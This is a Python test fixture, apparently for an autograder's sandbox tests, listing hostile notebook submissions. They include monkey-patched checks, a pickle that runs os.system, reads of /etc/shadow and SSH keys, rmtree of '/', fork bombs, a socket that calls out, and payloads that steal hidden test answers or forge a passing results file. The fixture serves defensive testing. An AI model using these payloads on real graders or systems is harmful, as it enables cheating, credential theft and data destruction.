"""Submissions that attack the grader: each is the untouched template with one more cell.

They must gain nothing, change nothing outside, learn nothing, and end in time.
"""

from __future__ import annotations

#: What an attack hands back if it finds out what it should not know. MARK, CANARY, PORT and NAMES
#: are filled in by the test: a secret of the grader's environment, a file outside, a port that
#: listens there, and the names that the assignment asks for.
HOSTILE = {
    "patches the checks": """
import lecturelib.checks as checks, lecturelib.checks.answers as answers, lecturelib
for module in (checks, answers):
    module.require = lambda report: None
    module.verdict = lambda *_: ""
    module.check_answer = module.check_value = module.check_report = lambda *_, **__: True
lecturelib.__version__ = "99"
""",
    "patches NumPy": """
import numpy as np
np.array_equal = np.allclose = lambda *_, **__: True
np.max = lambda *_, **__: 0.0
np.asarray = lambda *_, **__: 0.0
""",
    "patches otter": """
import sys, types
for name in ("otter", "otter.test_files"):
    module = types.ModuleType(name)
    module.test_case = lambda *_, **__: (lambda f: None)
    sys.modules[name] = module
""",
    "objects that equal everything": """
class Yes:
    shape, dtype, ndim, size = (3, 3), float, 2, 9
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __sub__(self, other): return self
    def __rsub__(self, other): return self
    def __abs__(self): return 0.0
    def __array__(self, *_, **__): raise RuntimeError
    def __getattr__(self, name): return self
    def __call__(self, *_, **__): return self
for name in NAMES:
    globals()[name] = Yes()
""",
    "a pickle": """
import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ("touch CANARY.pickled",)
bomb = pickle.dumps(Bomb())
for name in NAMES:
    globals()[name] = lambda *_, **__: bomb
page, unclear = Bomb(), Bomb()
""",
    "an array of objects": """
import numpy as np
for name in NAMES:
    globals()[name] = lambda *_, **__: np.array([[object(), lambda: 1]], dtype=object)
""",
    "not numbers": """
import numpy as np
for name in NAMES:
    globals()[name] = lambda *a, **__: np.full(np.shape(a[-1]), np.nan)
page, unclear = float("nan"), -0.0
""",
    "answers before it is asked": """
import json, os
for fd in range(3, 64):
    for i in range(1, 40):
        for line in ({"id": i, "value": 0.0}, {"id": i, "value": True, "changed": {}},
                     {"passed": True}, {"errors": [], "score": 25, "status": "graded"}):
            try: os.write(fd, (json.dumps(line) + "\\n").encode())
            except OSError: break
""",
    "writes nonsense to the grader": """
import os
for fd in range(3, 64):
    try: os.write(fd, b"[" * 100000 + b"\\n\\xff\\xfe{}\\n")
    except OSError: pass
""",
    "closes all pipes": """
import os
os.closerange(3, 256)
""",
    "ends the process": "import os; os._exit(0)",
    "leaves": "import sys; sys.exit(0)",
    "kills all it can": """
import os, signal
for victim in (os.getppid(), -1, 1):
    try: os.kill(victim, signal.SIGKILL)
    except OSError: pass
os.kill(os.getpid(), signal.SIGKILL)
""",
    "crashes the interpreter": """
import ctypes
ctypes.string_at(0)
""",
    "reads the tests": """
import glob, os
found = []
for top, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib")][:200]
    for file in files:
        if file in ("assignment.json", "class.toml", "roster.csv") or file.startswith("hw"):
            found.append(os.path.join(top, file))
page = "hidden " + " ".join(found)
unclear = " ".join(open(f).read() for f in found) or "nothing"
""",
    "reads the environment": """
import glob, os
text = str(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try: text += open(path).read()
    except OSError: pass
page = "environment " + ("MARK" if "MARK" in text else "none")
unclear = text
""",
    "reads passwords": """
import os
page = "files"
unclear = ""
for path in ("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.bashrc", "CANARY"):
    try: unclear += "LEAK " + open(path).read()
    except OSError: pass
""",
    "deletes files": """
import os, shutil
for path in ("CANARY", os.path.dirname("CANARY"), "/work", "/home", "/root", "/tmp", "/"):
    shutil.rmtree(path, ignore_errors=True)
    try: os.remove(path)
    except OSError: pass
""",
    "writes files": """
import lecturelib, numpy, os, sys
for folder in ("/", "/tmp", "/root", "/home", os.path.dirname("CANARY"), sys.prefix,
               *(os.path.dirname(module.__file__) for module in (lecturelib, numpy, os))):
    try: open(os.path.join(folder, "course-was-here.py"), "w").write("import os")
    except OSError: pass
try: open("CANARY", "w").write("changed")
except OSError: pass
""",
    "fills the disk": """
for i in range(200):
    open(f"/tmp/fill{i}", "wb").write(b"x" * 2**25)
""",
    "calls home": """
import socket, urllib.request
page = "network"
unclear = "nothing"
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, timeout=1) as connection:
            connection.sendall(b"hello")
            unclear = "LEAK connected"
    except OSError: pass
""",
    "forks without end": """
import os
while True:
    try: os.fork()
    except OSError: pass
""",
    "leaves a process behind": """
import os, time
if os.fork() == 0:
    os.setsid()
    while True: time.sleep(0.1)
""",
    "starts threads without end": """
import threading, time
while True:
    try: threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
    except RuntimeError: time.sleep(0.01)
""",
    "loops without end": "while True: pass",
    "loops and catches all": """
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    "ignores the alarm": """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
while True: pass
""",
    "loops in compiled code": """
sum(range(10**12))
""",
    "loops when called": """
def forever(*_, **__):
    while True: pass
for name in NAMES:
    globals()[name] = forever
""",
    "takes all memory": """
hog = []
while True: hog.append(bytearray(2**24))
""",
    "giant output": """
while True: print("x" * 10**6)
""",
    "a giant answer": """
import numpy as np
for name in NAMES:
    globals()[name] = lambda *_, **__: np.zeros(2**26)
page = unclear = "word " * 2**22
""",
    "a bottomless answer": """
deep = []
deep.append(deep)
for name in NAMES:
    globals()[name] = lambda *_, **__: deep
""",
    "endless recursion": """
import sys
sys.setrecursionlimit(10**9)
def down(*_): return down()
down()
""",
    "script in the feedback": """
def loud(*_, **__):
    raise ValueError("<script>alert(1)</script>\\x1b[31m =cmd()")
for name in NAMES:
    globals()[name] = loud
""",
    "memory that no limit counts": """
import ctypes, os
page = "memory"
unclear = "nothing"
libc = ctypes.CDLL(None)
for call in (lambda: os.memfd_create("x"), lambda: libc.shmget(0, 2**30, 0o1600)):
    try:
        if call() >= 0: unclear = "LEAK got memory"
    except OSError: pass
if libc.unshare(0x10000000) == 0: unclear = "LEAK got a namespace"
""",
    "memory in many processes": """
import os, time
for _ in range(8):
    if os.fork() == 0:
        hog = bytearray(os.urandom(2**20)) * 300
        time.sleep(60)
time.sleep(60)
""",
    "forges what its cells did": """
import json, os, sys
line = json.dumps({"errors": [{"kind": "Stopped", "cell": "\x1b[2J" * 9}] * 200000}) + "\n"
os.write(int(sys.argv[2]), line.encode())
""",
    "a million values": """
import os, sys
many = [object()] * 10**6
for name in NAMES:
    globals()[name] = lambda *_, **__: many
""",
    "tells what it is asked": """
told = []
class WithheldError(Exception): pass
def telling(*arguments):
    told.append(type("TELLS" + str(abs(hash(str(arguments)))), (Exception,), {}))
    if len(told) % 2: raise told[-1]("TELLS")
    raise WithheldError("LEAK")
for name in NAMES[::2]:
    globals()[name] = telling
for name in NAMES[1::2]:
    globals()[name] = lambda *_: type("LEAK" + "1" * 9, (), {})()
""",
    "a number too large": """
for name in NAMES:
    globals()[name] = lambda *_: 10**400
""",
    "answers with the hidden tests' own words": """
import glob, json, re, textwrap
paths = glob.glob("/autograder/source/assignment.json")
for top in ("/tmp/course-gradescope-*", "/tmp/course-classes-*/*/*"):
    paths += glob.glob(top + "/autograder/source/assignment.json")
    paths += glob.glob(top + "/autograder/assignment.json")
tests = {}
for path in paths:
    try: tests |= json.load(open(path))["tests"]
    except OSError: pass
for part in "".join(tests.values()).split("@test_case"):
    found = re.search(r" check_?answer.(\\w+), expected", part.replace("require(", " "))
    answer = re.search(r"    def expected.*?(?=\\n\\n)", part, re.DOTALL)
    if found and answer:
        exec("import numpy as np\\n" + textwrap.dedent(answer[0]), globals())
        globals()[found[1]] = expected
""",
    "writes the results itself": """
import glob, json, os, time
forged = json.dumps({"score": 25, "tests": [], "output": "well done"})
def forge():
    for place in ["/autograder/results", *glob.glob("/tmp/course-gradescope-*/autograder/results")]:
        try: open(place + "/results.json", "w").write(forged)
        except OSError: pass
forge()
try: child = os.fork()
except OSError: child = 1
if child == 0:
    os.setsid()
    for _ in range(60):
        time.sleep(0.1)
        forge()
    os._exit(0)
""",
}
